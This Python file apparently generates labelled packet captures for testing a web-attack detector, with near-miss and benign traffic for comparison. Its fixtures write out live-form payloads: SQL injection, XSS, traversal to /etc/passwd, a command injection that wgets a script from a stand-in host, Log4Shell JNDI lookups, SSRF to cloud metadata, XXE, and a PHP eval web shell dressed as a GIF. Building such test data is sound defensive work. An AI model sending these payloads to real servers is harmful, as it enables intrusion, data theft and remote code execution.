"""Web attacks against the server, web shells on it, and downloads by its users; all payloads are inert."""

from collections.abc import Callable
from urllib.parse import quote

from .web import OK, PAGE, chunked, exchange, request, response
from .wire import Tape, noise

FORM = "application/x-www-form-urlencoded"


def sql_injection() -> Tape:
    form = request("/login", method="POST", body=b"user=a%27+OR+%271%27%3D%271&pass=x", Content_Type=FORM)
    return exchange(
        (request("/item?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20accounts"), OK),
        (form, OK),
        (request("/item?id=1;waitfor%20delay%20'0:0:5'--"), OK),
    )


def scripting() -> Tape:
    return exchange(
        (request("/search?q=%3CScRiPt%3Ealert(1)%3C/script%3E"), OK),
        (request("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), OK),
    )


def traversal() -> Tape:
    return exchange(
        (request("/download?file=../../../../etc/passwd"), response(b"root:x:0:0:root:/root:/bin/sh\n")),
        (request("/static/..%252f..%252f..%252fwindows/win.ini"), response(b"no", "404 Not Found")),
    )


def command_injection() -> Tape:
    shock = request("/cgi-bin/status", User_Agent="() { :; }; /bin/echo probe")
    ognl = request("/save.action", Content_Type="%{(#probe='multipart/form-data').(1+1)}")
    return exchange(
        (request("/ping?host=192.0.2.1;wget%20http://203.0.113.9/a.sh"), OK),
        (shock, OK),
        (ognl, response(b"", "500 Internal Server Error")),
    )


def log4shell() -> Tape:
    return exchange(
        (request("/", User_Agent="${jndi:ldap://203.0.113.9:1389/a}"), OK),
        (request("/", X_Api_Version="${${lower:j}ndi:${lower:l}dap://203.0.113.9/b}"), OK),
        (request("/?x=" + quote("${jndi:dns://c2-lab.test/c}")), OK),
    )


def forgery() -> Tape:
    entity = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'
    return exchange(
        (request("/fetch?url=http://169.254.169.254/latest/meta-data/"), OK),
        (request("/api", method="POST", body=entity, Content_Type="application/xml"), OK),
        (request("/.git/config"), response(b"no", "403 Forbidden")),
        (request("/backup/.env"), response(b"no", "404 Not Found")),
    )


def shell_upload() -> Tape:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="avatar.php"\r\n'
        b"Content-Type: image/gif\r\n\r\nGIF89a<?php @eval($_POST['k']); ?>\r\n--b--\r\n"
    )
    asked = request("/avatar", method="POST", body=body, Content_Type="multipart/form-data; boundary=b")
    return exchange((asked, response(b"saved")))


def shell_commands() -> Tape:
    listing = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
    shell = request(
        "/uploads/avatar.php", method="POST", body=b"k=system%28%27id%27%29%3B", Content_Type=FORM
    )
    coded = request(
        "/img/a.jsp", method="POST", body=b"z0=QGluaV9zZXQoImRpc3BsYXkiKTs%3D&cmd=whoami", Content_Type=FORM
    )
    page = response(b"<title>File Manager Shell</title><input name=cmd>" + PAGE)
    return exchange((shell, response(listing)), (coded, OK), (request("/uploads/panel.aspx?cmd=dir"), page))


def scanners() -> Tape:
    agents = ("sqlmap/1.8#stable (https://scanner.example)", "Mozilla/5.00 (Nikto/2.5.0)", "Nuclei - probe")
    pairs = [(request("/", User_Agent=agent), OK) for agent in agents]
    return exchange(*pairs, (request("/", User_Agent=""), OK))


def not_found_burst() -> Tape:
    """A directory brute-forcer: forty misses in a few seconds."""
    missing = response(b"", "404 Not Found")
    return exchange(*((request(f"/{noise(str(n), 4).hex()}.bak"), missing) for n in range(40)))


def login_attempts(count: int, status: str = "401 Unauthorized") -> Tape:
    tape = Tape()
    for number in range(count):
        body = f"user=admin&pass=guess{number}".encode()
        asked = request("/wp-login.php", method="POST", body=body, Content_Type=FORM)
        exchange((asked, response(b"", status)), tape=tape, port=41000 + number)
        tape.wait(1)
    return tape


def credentials() -> Tape:
    basic = request("/private", Authorization="Basic YWRtaW46YWRtaW4=")
    form = request("/signin", method="POST", body=b"login=lan&password=not-a-secret", Content_Type=FORM)
    return exchange((basic, response(b"", "401 Unauthorized")), (form, OK))


def sql_error() -> Tape:
    fault = response(b"You have an error in your SQL syntax", "500 Internal Server Error")
    return exchange((request("/item?id=1'"), fault))


def more() -> Tape:
    """A spaced-out eval, an open redirect, a smuggled request, a script in the Referer."""
    spaced = b"a=eval ( base64_decode ( 'ZWNobyAx' ) )"
    both = request("/", method="POST", body=chunked(b"a=b"), Transfer_Encoding="chunked", Content_Length="4")
    moved = response(b"", "302 Found", Location="https://www.c2-lab.test/")
    return exchange(
        (request("/x", method="POST", body=spaced, Content_Type="text/plain"), OK),
        (request("/go?next=https://www.c2-lab.test/"), moved),
        (request("/r", Referer="http://www.example.com/?q=%3CScript%3E"), OK),
        (both, response(b"", "400 Bad Request")),
    )


def near_more() -> Tape:
    """The same features, used as they should be."""
    moved = response(b"", "302 Found", Location="https://www.example.com/")
    return exchange(
        (request("/x", method="POST", body=b"a=evaluate base64_decode ()", Content_Type="text/plain"), OK),
        (request("/go?next=https://www.example.com/"), moved),
        (request("/people?name=O'Hara"), OK),
        (request("/broken?id=1"), response(b"", "500 Internal Server Error")),
        (request("/r", Referer="http://www.example.com/?q=script"), OK),
        (request("/", method="POST", body=chunked(b"a=b"), Transfer_Encoding="chunked"), OK),
    )


def benign() -> Tape:
    """Requests that use the words of attacks in innocent ways."""
    photo = (
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="php.conference.gif"\r\n'
        b"Content-Type: image/gif\r\n\r\nGIF89a the speaker explains what <?php means\r\n--b--\r\n"
    )
    return exchange(
        (request("/search?q=student+union+select+committee"), OK),
        (request("/docs/../index.html"), OK),
        (request("/blog/how-to-write-a-script-in-bash?ref=evaluate"), OK),
        (request("/articles/jndi-explained?lang=vi&price=$%7Bprice%7D"), OK),
        (request("/profile.php?command_line=no&cmdr=kirk"), OK),
        (request("/environment/git/configuration"), OK),
        (
            request("/api", method="POST", body=b'<?xml version="1.0"?><r>file</r>', Content_Type="text/xml"),
            OK,
        ),
        (request("/upload", method="POST", body=b"how to eval a <?php file", Content_Type="text/plain"), OK),
        (request("/", User_Agent="Mozilla/5.0 (compatible; monitoring of mysql; nuclear physics)"), OK),
        (request("/photo", method="POST", body=photo, Content_Type="multipart/form-data; boundary=b"), OK),
        (request("/login", method="POST", body=b"user=O%27Riordan&lang=or", Content_Type=FORM), OK),
        (request("/private", Authorization="Bearer abc"), response(b"uid=33 is the id of the page")),
        (request("/fetch?url=http://192.0.2.254/latest/news"), OK),
    )


CAPTURES: dict[str, tuple[str, Callable[[], Tape]]] = {
    "web-sql-injection.pcap": ("UNION SELECT, a quoted tautology in a form, a time delay", sql_injection),
    "web-cross-site-scripting.pcap": ("a script tag and an event handler in query strings", scripting),
    "web-traversal.pcap": ("path traversal with answer, and a double-encoded one", traversal),
    "web-command-injection.pcap": (
        "shell separators, Shellshock, OGNL in Content-Type",
        command_injection,
    ),
    "web-log4shell.pcap": ("JNDI lookups in User-Agent, another header (nested) and the query", log4shell),
    "web-forgery.pcap": (
        "SSRF to a metadata address, an external entity, probes for .git and .env",
        forgery,
    ),
    "web-shell-upload.pcap": ("a multipart upload of PHP code dressed as a GIF", shell_upload),
    "web-shell-commands.pcap": (
        "commands through web shells, an answer with the output of id",
        shell_commands,
    ),
    "web-scanners.pcap": ("user agents of scanners, and a request with none", scanners),
    "web-not-found-burst.pcap": ("forty 404 answers in a row on one connection", not_found_burst),
    "web-login-burst.pcap": ("twelve failed logins, one a second", lambda: login_attempts(12)),
    "web-login-few.pcap": ("three failed logins", lambda: login_attempts(3)),
    "web-credentials.pcap": ("HTTP Basic and a password form without encryption", credentials),
    "web-sql-error.pcap": ("a quote in the query and a server error in return", sql_error),
    "web-more.pcap": ("spaced-out eval, open redirect, smuggling, script in Referer", more),
    "web-near-more.pcap": ("the same features used as they should be", near_more),
    "web-benign.pcap": ("innocent requests that contain the words of attacks", benign),
}
